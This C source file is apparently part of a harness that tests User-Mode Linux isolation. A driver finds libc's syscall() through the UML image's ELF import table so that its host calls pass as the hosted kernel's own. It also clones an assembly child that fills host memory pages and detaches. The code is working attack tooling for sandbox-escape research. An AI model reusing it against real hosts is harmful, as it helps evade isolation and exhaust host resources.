// SPDX-License-Identifier: GPL-2.0
/*
 * through.c - have the hosted kernel make the call
 *
 * A driver that knows that it is hosted finds libc's syscall() as the hosted kernel itself does, in the
 * table of what it imports (System V ABI, AMD64 supplement, 5.2).  From then on its calls look like
 * those of the hosted kernel, and only what each is and may do keeps them out.
 */
#include "attack.h"

long (*host_through)(const struct host_call *call);

#ifdef __KERNEL__
#include <linux/elf.h>

#define IMAGE 0x60000000ul		/* where User-Mode Linux is linked to */

/* elf.h has these for programs only. */
struct dyn {
	s64 tag;
	u64 value;
};

static long (*libc_syscall)(long nr, ...);
static int *(*libc_errno)(void);

static u64 dynamic(s64 tag)
{
	const Elf64_Ehdr *eh = (void *)IMAGE;
	const Elf64_Phdr *ph = (void *)(IMAGE + eh->e_phoff);

	for (int i = 0; i < eh->e_phnum; i++) {
		if (ph[i].p_type != PT_DYNAMIC)
			continue;
		for (const struct dyn *d = (void *)ph[i].p_vaddr; d->tag; d++)
			if (d->tag == tag)
				return d->value;
	}
	return 0;
}

static void *imported(const char *name)
{
	const Elf64_Rela *rela = (void *)dynamic(DT_JMPREL);
	const Elf64_Sym *symbols = (void *)dynamic(DT_SYMTAB);
	const char *names = (void *)dynamic(DT_STRTAB);

	for (u64 i = 0; rela && i < dynamic(DT_PLTRELSZ) / sizeof(*rela); i++)
		if (!strcmp(names + symbols[ELF64_R_SYM(rela[i].r_info)].st_name, name))
			return *(void **)rela[i].r_offset;
	return NULL;
}

static long by_libc(const struct host_call *c)
{
	long ret = libc_syscall(c->nr, c->arg[0], c->arg[1], c->arg[2], c->arg[3], c->arg[4], c->arg[5]);

	return ret == -1 ? -*libc_errno() : ret;
}

/*
 * What a child does, in a copy: it has neither our stack to itself nor our code at all, as the hosted
 * kernel's RAM is not for its children.  r12 and r13 are the memory it uses, r14 is syscall().
 */
asm(".pushsection .rodata\n"
    "ring3_attack_child:\n"
    "1:\tcmp %r13, %r12\n\tjae 2f\n\tmovb $1, (%r12)\n\tadd $4096, %r12\n\tjmp 1b\n"
    "2:\tmov $112, %edi\n\tcall *%r14\n"		/* setsid */
    "3:\tmov $34, %edi\n\tcall *%r14\n\tjmp 3b\n"	/* pause */
    "ring3_attack_child_end:\n"
    ".popsection");
extern const char ring3_attack_child[], ring3_attack_child_end[];

#define CHILD_STACK 32768
#define CHILD_CODE 40960

long through_clone(long flags, long from, long end)
{
	static long page;
	long ret;

	if (!page)
		page = host(H_mmap, 0, 65536, 7, 0x22, -1, 0);
	if (page < 0 && page > -4096)
		return page;
	memcpy((void *)(page + CHILD_CODE), ring3_attack_child, ring3_attack_child_end - ring3_attack_child);
	*(long *)(page + CHILD_STACK) = page + CHILD_CODE;
	asm volatile("mov %[from], %%r12\n\tmov %[end], %%r13\n\tmov %[call], %%r14\n\t"
		     "xor %%ecx, %%ecx\n\txor %%r8d, %%r8d\n\txor %%r9d, %%r9d\n\t"
		     "call *%%r14\n"
		     : "=a" (ret), "+S" (flags)
		     : "D" ((long)H_clone), "d" (page + CHILD_STACK), [from] "r" (from), [end] "r" (end),
		       [call] "r" (libc_syscall)
		     : "rcx", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "memory");
	return ret == -1 ? -*libc_errno() : ret;
}

/**
 * through_kernel() - make all further calls in that way
 *
 * Return: 0, or -1: the hosted kernel does not import what is needed.
 */
int through_kernel(void)
{
	libc_syscall = imported("syscall");
	libc_errno = imported("__errno_location");
	if (!libc_syscall || !libc_errno)
		return -1;
	host_through = by_libc;
	return 0;
}
#else
long through_clone(long flags, long from, long end)
{
	(void)flags, (void)from, (void)end;
	return -38;
}
#endif
